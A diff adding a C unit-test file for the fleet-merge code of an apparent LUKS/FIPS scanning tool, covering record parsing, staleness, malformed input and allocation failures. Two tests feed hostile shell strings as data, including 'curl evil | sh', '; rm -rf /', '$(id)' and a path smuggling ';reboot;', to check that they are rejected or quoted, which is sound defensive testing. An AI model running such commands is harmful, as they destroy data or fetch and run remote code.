@@ -1,0 +1,449 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* The fleet merge (src/lib/fleet.c): real scan records in, summary out; hostile input never crashes. */
+#include <dlfcn.h>
+#include <errno.h>
+#include <setjmp.h>
+#include <stdbool.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+
+#include <cmocka.h>
+
+#include "fipsluks/fleet.h"
+#include "fipsluks/identity.h"
+
+/*
+ * Allocation failure injection, as in test_policy.c: fleet.c allocates through strdup(),
+ * reallocarray(), vasprintf() and asprintf() (besides two calloc()/malloc() and json-c's own); those
+ * are replaced here. When fail_at >= 0, call number fail_at (counting from 0) fails.
+ */
+static long fail_at = -1;
+static long alloc_calls;
+
+/* Only the calls of fipsluks' own code fail: json-c, which these replacements also serve, does not
+ * survive a failing strdup() (it is not what is under test). */
+static bool from_fipsluks(const void *caller)
+{
+    Dl_info info;
+
+    return !dladdr(caller, &info) || !info.dli_fname || !strstr(info.dli_fname, "libjson-c");
+}
+
+#define inject_failure() (from_fipsluks(__builtin_return_address(0)) && inject_failure_())
+static bool inject_failure_(void)
+{
+    return fail_at >= 0 && alloc_calls++ == fail_at;
+}
+
+char *strdup(const char *s)
+{
+    size_t n = strlen(s) + 1;
+    char *d;
+
+    if (inject_failure())
+        return NULL;
+    d = malloc(n);
+    return d ? memcpy(d, s, n) : NULL;
+}
+
+void *reallocarray(void *p, size_t n, size_t size)
+{
+    if (inject_failure() || (size && n > SIZE_MAX / size))
+        return NULL;
+    return realloc(p, n * size);
+}
+
+int vasprintf(char **strp, const char *fmt, va_list ap)
+{
+    va_list aq;
+    char *s;
+    int n;
+
+    if (inject_failure())
+        return -1;
+    va_copy(aq, ap);
+    n = vsnprintf(NULL, 0, fmt, aq);
+    va_end(aq);
+    if (n < 0 || !(s = malloc((size_t)n + 1)))
+        return -1;
+    vsnprintf(s, (size_t)n + 1, fmt, ap);
+    *strp = s;
+    return n;
+}
+
+int asprintf(char **strp, const char *fmt, ...)
+{
+    va_list ap;
+    int n;
+
+    if (inject_failure())
+        return -1;
+    va_start(ap, fmt);
+    n = vsnprintf(NULL, 0, fmt, ap);
+    va_end(ap);
+    if (n < 0 || !(*strp = malloc((size_t)n + 1)))
+        return -1;
+    va_start(ap, fmt);
+    vsnprintf(*strp, (size_t)n + 1, fmt, ap);
+    va_end(ap);
+    return n;
+}
+
+#define NOW 1795953600 /* 2026-11-29T12:00:00Z */
+
+/* A volume record of host @p mid at @p at; @p body is the rest of the object. */
+static char *volume_line(const char *mid, const char *host, const char *at, const char *body)
+{
+    char *s = NULL;
+
+    assert_true(
+        asprintf(&s,
+                 "{\"schema_version\":1,\"record\":\"volume\",\"tool\":\"fipsluks\",\"version\":\"0.1.0\","
+                 "\"host\":{\"hostname\":\"%s\",\"machine_id\":\"%s\",\"os_id\":\"debian\","
+                 "\"os_version_id\":\"12\",\"kernel_fips\":true},\"scanned_at\":\"%s\",%s}\n",
+                 host, mid, at, body) > 0);
+    return s;
+}
+
+static const char argon_volume[] =
+    "\"path\":\"/dev/sda2\",\"status\":\"ok\",\"uuid\":\"u-1\",\"label\":null,\"fips_compatible\":false,"
+    "\"keyslots\":[{\"kdf\":\"argon2id\"},{\"kdf\":\"pbkdf2\"}],"
+    "\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\",\"object\":\"keyslot 0\","
+    "\"remedy\":\"fipsluks migrate --key-slot 0 /dev/sda2\"},"
+    "{\"rule\":\"FL-KDF-ITER-LOW\",\"severity\":\"warning\",\"object\":\"keyslot 1\",\"remedy\":null}]";
+static const char good_volume[] =
+    "\"path\":\"/dev/sdb1\",\"status\":\"ok\",\"uuid\":\"u-2\",\"fips_compatible\":true,"
+    "\"keyslots\":[{\"kdf\":\"pbkdf2\"}],\"findings\":[]";
+static const char error_volume[] =
+    "\"path\":\"/dev/sdc\",\"status\":\"error\",\"error\":\"permission denied\","
+    "\"fips_compatible\":null,\"keyslots\":[],\"findings\":[]";
+
+static const char MID_A[] = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+static const char MID_B[] = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+
+static struct fl_fleet *merge(const char *source, const char *text)
+{
+    struct fl_fleet *f;
+
+    assert_int_equal(fl_fleet_new(&f), 0);
+    assert_int_equal(fl_fleet_add(f, source, text, strlen(text)), 0);
+    return f;
+}
+
+static char *cat3(const char *a, const char *b, const char *c)
+{
+    char *s = NULL;
+
+    assert_true(asprintf(&s, "%s%s%s", a, b, c ? c : "") >= 0);
+    return s;
+}
+
+static void test_lines_and_documents(void **state)
+{
+    char *v1 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
+    char *v2 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", error_volume);
+    const char *summary =
+        "{\"schema_version\":1,\"record\":\"summary\",\"tool\":\"fipsluks\",\"host\":{\"hostname\":"
+        "\"web-1\",\"machine_id\":\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"},\"scanned_at\":"
+        "\"2026-11-29T07:00:00Z\",\"summary\":{}}\n";
+    /* Host B as a pretty-printed document (several lines). */
+    const char *doc =
+        "{\n  \"schema_version\": 1,\n  \"record\": \"scan\",\n  \"tool\": \"fipsluks\",\n"
+        "  \"host\": {\"hostname\": \"db-1\", \"machine_id\": \"bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\"},\n"
+        "  \"scanned_at\": \"2026-11-29T09:00:00+02:00\",\n  \"volumes\": [{\"path\":\"/dev/sdb1\","
+        "\"status\":\"ok\",\"uuid\":\"u-2\",\"fips_compatible\":true,\"keyslots\":[{\"kdf\":"
+        "\"pbkdf2\"}],\"findings\":[]}]\n}\n";
+    char *lines = cat3(v1, v2, summary), *all = cat3(lines, doc, NULL);
+    struct fl_fleet *f = merge("in", all);
+    const struct fl_fleet_summary *s;
+    const struct fl_fleet_host *h;
+
+    (void)state;
+    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
+    assert_int_equal(fl_fleet_n_errors_total(f), 0);
+    s = fl_fleet_summary(f);
+    assert_int_equal(s->hosts, 2);
+    assert_int_equal(s->volumes, 3);
+    assert_int_equal(s->compatible, 1);
+    assert_int_equal(s->incompatible, 1);
+    assert_int_equal(s->unreadable, 1);
+    assert_int_equal(s->needing_action, 1);
+    assert_int_equal(s->n_rules, 1); /* errors only: the warning is not counted */
+    assert_string_equal(s->rules[0].name, "FL-KDF-ARGON2");
+    assert_int_equal(s->n_kdfs, 2);
+    assert_string_equal(s->kdfs[0].name, "argon2id");
+    assert_int_equal(s->kdfs[0].count, 1);
+    assert_string_equal(s->kdfs[1].name, "pbkdf2");
+    assert_int_equal(s->kdfs[1].count, 2);
+    /* sorted by host name: db-1 first */
+    h = fl_fleet_host(f, 0);
+    assert_string_equal(h->hostname, "db-1");
+    assert_false(h->needs_action);
+    assert_true(h->complete);
+    assert_int_equal(h->time, NOW - 5 * 3600); /* 09:00+02:00 is 07:00Z */
+    h = fl_fleet_host(f, 1);
+    assert_string_equal(h->hostname, "web-1");
+    assert_string_equal(h->os_id, "debian");
+    assert_int_equal(h->kernel_fips, 1);
+    assert_true(h->complete);
+    assert_true(h->needs_action);
+    assert_string_equal(h->commands[0], "fipsluks migrate --key-slot 0 /dev/sda2");
+    assert_string_equal(h->commands[1], "fipsluks scan /dev/sdc");
+    assert_null(h->commands[2]);
+    assert_int_equal(h->volumes[1].state, FL_FLEET_UNREADABLE);
+    assert_string_equal(h->volumes[1].error, "permission denied");
+    fl_fleet_free(f);
+    free(v1);
+    free(v2);
+    free(lines);
+    free(all);
+}
+
+/* Only the newest scan of a host counts, whatever order the inputs come in; old ones are stale. */
+static void test_newest_scan_wins_and_staleness(void **state)
+{
+    char *old = volume_line(MID_A, "web-1", "2026-11-20T00:00:00Z", argon_volume);
+    char *fresh = volume_line(MID_A, "web-1-renamed", "2026-11-29T06:00:00Z", good_volume);
+    char *other = volume_line(MID_B, "db-1", "2026-11-26T00:00:00Z", good_volume);
+    struct fl_fleet *f;
+    const struct fl_fleet_host *h;
+
+    (void)state;
+    assert_int_equal(fl_fleet_new(&f), 0);
+    assert_int_equal(fl_fleet_add(f, "new", fresh, strlen(fresh)), 0);
+    assert_int_equal(fl_fleet_add(f, "old", old, strlen(old)), 0);
+    assert_int_equal(fl_fleet_add(f, "other", other, strlen(other)), 0);
+    assert_int_equal(fl_fleet_finish(f, NOW, 2 * 86400), 0);
+    assert_int_equal(fl_fleet_n_hosts(f), 2);
+    h = fl_fleet_host(f, 1);
+    assert_string_equal(h->hostname, "web-1-renamed");
+    assert_int_equal(h->n_volumes, 1);
+    assert_int_equal(h->n_compatible, 1);
+    assert_false(h->stale);
+    assert_false(h->complete); /* JSON lines without their summary record: cut short */
+    assert_true(h->needs_action);
+    assert_string_equal(h->commands[0], FL_FLEET_RESCAN_COMMAND);
+    h = fl_fleet_host(f, 0);
+    assert_string_equal(h->hostname, "db-1");
+    assert_true(h->stale); /* 3 days 12 hours old, 2 days allowed */
+    assert_int_equal(fl_fleet_summary(f)->stale, 1);
+    /* a larger maximum age: not stale any more */
+    assert_int_equal(fl_fleet_finish(f, NOW, 4 * 86400), 0);
+    assert_false(fl_fleet_host(f, 0)->stale);
+    fl_fleet_free(f);
+    free(old);
+    free(fresh);
+    free(other);
+}
+
+/* A remedy that is not a plain fipsluks/cryptsetup command line is never shown as a command. */
+static void test_hostile_remedy(void **state)
+{
+    char *v = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
+                          "\"path\":\"/dev/x y';reboot;'\",\"status\":\"ok\",\"fips_compatible\":false,"
+                          "\"keyslots\":[],\"findings\":[{\"rule\":\"FL-KDF-ARGON2\",\"severity\":\"error\","
+                          "\"remedy\":\"fipsluks migrate /dev/x; curl evil | sh\"}]");
+    struct fl_fleet *f = merge("evil", v);
+    const struct fl_fleet_host *h;
+
+    (void)state;
+    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
+    h = fl_fleet_host(f, 0);
+    assert_string_equal(h->commands[0], FL_FLEET_RESCAN_COMMAND); /* no summary record: cut short */
+    assert_string_equal(h->commands[1], "fipsluks scan '/dev/x y'\\'';reboot;'\\'''");
+    assert_true(fl_fleet_command_safe(h->commands[1]));
+    assert_null(h->commands[2]);
+    fl_fleet_free(f);
+    free(v);
+}
+
+static void test_command_safe(void **state)
+{
+    static const struct {
+        const char *cmd;
+        bool safe;
+    } cases[] = {
+        {"fipsluks migrate --key-slot 0 /dev/sda2", true},
+        {"cryptsetup luksConvertKey --pbkdf pbkdf2 --key-slot 1 /dev/vda3", true},
+        {"fipsluks migrate 'a b'\\''c'", true},
+        {"fipsluks migrate /dev/sda2; rm -rf /", false},
+        {"fipsluks migrate $(id)", false},
+        {"fipsluks migrate `id`", false},
+        {"fipsluks migrate /dev/sda2 > /etc/passwd", false},
+        {"fipsluks migrate 'unterminated", false},
+        {"fipsluks migrate \\n", false},
+        {"fipsluks migrate '\n'", false},
+        {"rm -rf /", false},
+        {"fipsluksx", false},
+        {"", false},
+    };
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+        if (fl_fleet_command_safe(cases[i].cmd) != cases[i].safe)
+            fail_msg("case %zu: \"%s\" should be %s", i, cases[i].cmd, cases[i].safe ? "safe" : "unsafe");
+    }
+    assert_false(fl_fleet_command_safe(NULL));
+}
+
+/* Each bad record is reported with its line and skipped; good records around it still count. */
+static void test_malformed_records(void **state)
+{
+    char *good = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", good_volume);
+    char *bad_path = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
+                                 "\"path\":42,\"status\":\"ok\",\"fips_compatible\":true,\"keyslots\":[],"
+                                 "\"findings\":[]");
+    char *bad_findings =
+        volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z",
+                    "\"path\":\"/p\",\"status\":\"ok\",\"fips_compatible\":true,\"keyslots\":[],"
+                    "\"findings\":[{\"rule\":7}]");
+    char *bad_time = volume_line(MID_A, "web-1", "yesterday", good_volume);
+    char *no_host = volume_line("", "", "2026-11-29T07:00:00Z", good_volume);
+    char *text = NULL;
+    struct fl_fleet *f;
+
+    (void)state;
+    assert_true(asprintf(&text,
+                         "%s"                                            /* 1: good */
+                         "{\"truncated\": \n"                            /* 2: broken… */
+                         "%s"                                            /* 3: …resynchronised: bad path */
+                         "[1, 2, 3]\n"                                   /* 4: not an object */
+                         "{\"tool\":\"other\"}\n"                        /* 5 */
+                         "{\"tool\":\"fipsluks\",\"record\":\"scan\"}\n" /* 6: no schema_version */
+                         "{\"tool\":\"fipsluks\",\"schema_version\":99}\n" /* 7 */
+                         "%s" /* 8: finding without a rule string */
+                         "%s" /* 9: bad time */
+                         "%s" /* 10: no host identity */
+                         "{\"tool\":\"fipsluks\",\"schema_version\":1,\"record\":\"check\"}\n" /* 11 */
+                         "%s"             /* 12: good again */
+                         "{\"cut\": [1,", /* 13: cut at the end */
+                         good, bad_path, bad_findings, bad_time, no_host, good) > 0);
+    f = merge("fleet.jsonl", text);
+    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
+    assert_int_equal(fl_fleet_n_hosts(f), 1);
+    assert_int_equal(fl_fleet_host(f, 0)->n_volumes, 1); /* the good record twice counts once */
+    assert_int_equal(fl_fleet_n_errors(f), 11);
+    {
+        static const unsigned long lines[] = {2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 13};
+        for (size_t i = 0; i < 11; i++) {
+            const struct fl_fleet_error *e = fl_fleet_error(f, i);
+            assert_string_equal(e->source, "fleet.jsonl");
+            if (e->line != lines[i])
+                fail_msg("error %zu (%s): line %lu, expected %lu", i, e->message, e->line, lines[i]);
+        }
+    }
+    assert_non_null(strstr(fl_fleet_error(f, 0)->message, "invalid JSON"));
+    assert_non_null(strstr(fl_fleet_error(f, 1)->message, "path"));
+    assert_non_null(strstr(fl_fleet_error(f, 10)->message, "cut short"));
+    fl_fleet_free(f);
+    free(text);
+    free(good);
+    free(bad_path);
+    free(bad_findings);
+    free(bad_time);
+    free(no_host);
+}
+
+/* Binary garbage, NUL bytes, deep nesting, huge numbers: errors, never a crash or a hang. */
+static void test_garbage(void **state)
+{
+    char buf[4096], deep[2000];
+    struct fl_fleet *f;
+
+    (void)state;
+    assert_int_equal(fl_fleet_new(&f), 0);
+    for (size_t i = 0; i < sizeof(buf); i++)
+        buf[i] = (char)((i * 7919 + 13) % 256);
+    assert_int_equal(fl_fleet_add(f, "random", buf, sizeof(buf)), 0);
+    assert_int_equal(fl_fleet_add(f, "nul", "{\"a\":\0\"b\"}\n{\0}", 15), 0);
+    memset(deep, '[', sizeof(deep));
+    assert_int_equal(fl_fleet_add(f, "deep", deep, sizeof(deep)), 0);
+    assert_int_equal(fl_fleet_add(f, "num", "{\"tool\":\"fipsluks\",\"schema_version\":1e999999}", 46), 0);
+    assert_int_equal(fl_fleet_add(f, "empty", "", 0), 0);
+    assert_int_equal(fl_fleet_finish(f, NOW, 86400), 0);
+    assert_int_equal(fl_fleet_n_hosts(f), 0);
+    assert_true(fl_fleet_n_errors(f) >= 4);
+    fl_fleet_free(f);
+}
+
+/* More errors than are kept: the rest are counted. */
+static void test_error_cap(void **state)
+{
+    size_t n = FL_FLEET_MAX_ERRORS + 50;
+    char *text = malloc(n * 4);
+    struct fl_fleet *f;
+
+    (void)state;
+    assert_non_null(text);
+    for (size_t i = 0; i < n; i++)
+        memcpy(text + 4 * i, "{1}\n", 4);
+    f = merge("many", text ? "" : "");
+    assert_int_equal(fl_fleet_add(f, "many", text, n * 4), 0);
+    assert_int_equal(fl_fleet_n_errors(f), FL_FLEET_MAX_ERRORS);
+    assert_int_equal(fl_fleet_n_errors_total(f), n);
+    fl_fleet_free(f);
+    free(text);
+}
+
+/* Every allocation of a merge fails in turn: -ENOMEM, never a crash or a leak (the sanitizer build
+ * checks leaks); with nothing left to fail, the same fleet as without injection. */
+static void test_allocation_failures(void **state)
+{
+    char *v1 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", argon_volume);
+    char *v2 = volume_line(MID_A, "web-1", "2026-11-29T07:00:00Z", error_volume);
+    char *v3 = volume_line(MID_B, "db-1", "2026-11-20T07:00:00Z",
+                           "\"path\":\"/dev/x y\",\"status\":\"ok\","
+                           "\"fips_compatible\":false,\"keyslots\":[],"
+                           "\"findings\":[{\"rule\":\"FL-CIPHER\","
+                           "\"severity\":\"error\"}]");
+    char *text = NULL;
+    long failures = 0;
+
+    (void)state;
+    assert_true(asprintf(&text, "%s%s[1]\n%s{\"tool\":\"fipsluks\"}\n{\"cut\": ", v1, v2, v3) > 0);
+    for (long n = 0;; n++) {
+        struct fl_fleet *f = NULL;
+        int r;
+
+        alloc_calls = 0;
+        fail_at = n;
+        r = fl_fleet_new(&f);
+        if (r == 0)
+            r = fl_fleet_add(f, "in", text, strlen(text));
+        if (r == 0)
+            r = fl_fleet_finish(f, NOW, 2 * 86400);
+        fail_at = -1;
+        if (alloc_calls <= n) { /* nothing left to fail */
+            assert_int_equal(r, 0);
+            assert_int_equal(fl_fleet_n_hosts(f), 2);
+            assert_int_equal(fl_fleet_summary(f)->volumes, 3);
+            assert_int_equal(fl_fleet_n_errors(f), 3);
+            assert_string_equal(fl_fleet_host(f, 0)->commands[1], "fipsluks scan '/dev/x y'");
+            fl_fleet_free(f);
+            break;
+        }
+        assert_int_equal(r, -ENOMEM);
+        failures++;
+        fl_fleet_free(f);
+    }
+    assert_true(failures > 20);
+    free(text);
+    free(v1);
+    free(v2);
+    free(v3);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_lines_and_documents), cmocka_unit_test(test_newest_scan_wins_and_staleness),
+        cmocka_unit_test(test_hostile_remedy),      cmocka_unit_test(test_command_safe),
+        cmocka_unit_test(test_malformed_records),   cmocka_unit_test(test_garbage),
+        cmocka_unit_test(test_error_cap),           cmocka_unit_test(test_allocation_failures),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
